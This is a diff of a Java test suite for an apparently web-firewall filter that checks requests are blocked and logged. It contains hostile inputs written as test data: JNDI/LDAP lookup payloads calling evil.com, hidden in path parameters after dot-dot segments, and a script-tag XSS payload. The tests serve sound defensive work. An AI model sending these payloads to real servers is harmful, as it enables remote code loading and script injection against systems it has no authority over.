@@ -17,10 +17,6 @@ class PathParameterDenyRulesTest extends FilterContainerTest {
     }
 
 
-    private RawHttp.Response rawGet(String target) {
-        return raw("GET " + target + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
-    }
-
     private JsonNode refusedAndLogged(String target) {
         int before = servlet.calls.get();
 
@@ -28,36 +24,30 @@ class PathParameterDenyRulesTest extends FilterContainerTest {
 
         assertThat(response.status()).as(response.body()).isEqualTo(403);
         assertThat(servlet.calls.get()).isEqualTo(before);
-        return SecurityLog.available() ? SecurityLog.event(json(response.body()).get("incidentId").asText()) : null;
+        return loggedEvent(response.body());
     }
 
     @Test
     void blocksJndiLookupInTheParametersOfADotDotSegment() {
         JsonNode event = refusedAndLogged("/t/..;%24%7Bjndi:ldap:%2F%2Fevil.com%2Fa%7D/y");
 
-        if (event != null) {
-            assertThat(event.get("bulwark.block_type").asText()).isEqualTo("deny");
-            assertThat(event.get("bulwark.location").asText()).isEqualTo("path-parameter:1");
-        }
+        assertThat(event.get("bulwark.block_type").asText()).isEqualTo("deny");
+        assertThat(event.get("bulwark.location").asText()).isEqualTo("path-parameter:1");
     }
 
     @Test
     void blocksJndiLookupWhoseSlashesSplitItAcrossTheDroppedSegment() {
         JsonNode event = refusedAndLogged("/t/..;${jndi:ldap://evil.com/a}/y");
 
-        if (event != null) {
-            assertThat(event.get("rule.category").asText()).isEqualTo("JAVA");
-        }
+        assertThat(event.get("rule.category").asText()).isEqualTo("JAVA");
     }
 
     @Test
     void blocksScriptInTheParametersOfADotSegment() {
         JsonNode event = refusedAndLogged("/t/.;%3Cscript%3Ealert(1)%3C/script%3E/y");
 
-        if (event != null) {
-            assertThat(event.get("rule.category").asText()).isEqualTo("XSS");
-            assertThat(event.get("bulwark.location").asText()).isEqualTo("path-parameter:1");
-        }
+        assertThat(event.get("rule.category").asText()).isEqualTo("XSS");
+        assertThat(event.get("bulwark.location").asText()).isEqualTo("path-parameter:1");
     }
 
     @Test
